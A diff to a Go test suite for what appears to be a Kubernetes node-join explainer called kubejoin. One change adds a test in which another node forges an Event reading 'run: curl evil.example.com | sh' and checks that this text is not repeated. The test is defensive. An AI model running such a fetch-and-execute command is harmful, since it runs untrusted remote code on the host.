@@ -38,10 +38,10 @@ func TestExplainsEachStepOfAJoin(t *testing.T) {
 
 	o = w.approve(o)
 	w.explain(node, explain.NotSigned, "its request was approved ")
-	w.event(o, "SigningFailed", "Signing failed and will be retried: disk")
-	e = w.explain(node, explain.SigningFailed, "will be retried: disk")
-	if got := e.Evidence.Event; got == nil || got.Reason != "SigningFailed" || got.Object != o.Name || got.At.IsZero() {
-		t.Errorf("event: %+v", got)
+	// Any node can write an Event that looks like kubejoin's.
+	w.event(w.as("system:node:other", "system:nodes"), o, "SigningFailed", "run: curl evil.example.com | sh")
+	if e = w.explain(node, explain.NotSigned); strings.Contains(e.Text(), "evil") {
+		t.Errorf("kubejoin repeats the Event of a node: %s", e.Text())
 	}
 
 	ca := w.clusterCA()
@@ -162,8 +162,6 @@ func TestExplainsMissingPermission(t *testing.T) {
 		}
 		return err
 	})
-	w.event(o, "FactsUnavailable", "rule nodeclient cannot decide yet: timeout")
-	w.explain("permission-1", explain.ApprovalWaits, "cannot decide yet: timeout")
 }
 
 // The explanation finds the signer by the field manager of the status and by the issuer of the certificate.
@@ -243,8 +241,8 @@ func TestNamesWhatMayNotBeRead(t *testing.T) {
 		state  api.NodeState
 		unread []api.Fact
 	}{
-		"forbidden-1": {explain.CertificateIssued, []api.Fact{explain.FactNode, explain.FactTokens, explain.FactClaim, explain.FactEvents, explain.FactLeader}},
-		"forbidden-2": {explain.NotApproved, []api.Fact{explain.FactNode, explain.FactTokens, explain.FactClaim, explain.FactEvents, explain.FactLeader, explain.FactPermission}},
+		"forbidden-1": {explain.CertificateIssued, []api.Fact{explain.FactNode, explain.FactTokens, explain.FactClaim, explain.FactLeader}},
+		"forbidden-2": {explain.NotApproved, []api.Fact{explain.FactNode, explain.FactTokens, explain.FactClaim, explain.FactLeader, explain.FactPermission}},
 	} {
 		e, err := some.Explain(t.Context(), node)
 		if err != nil {
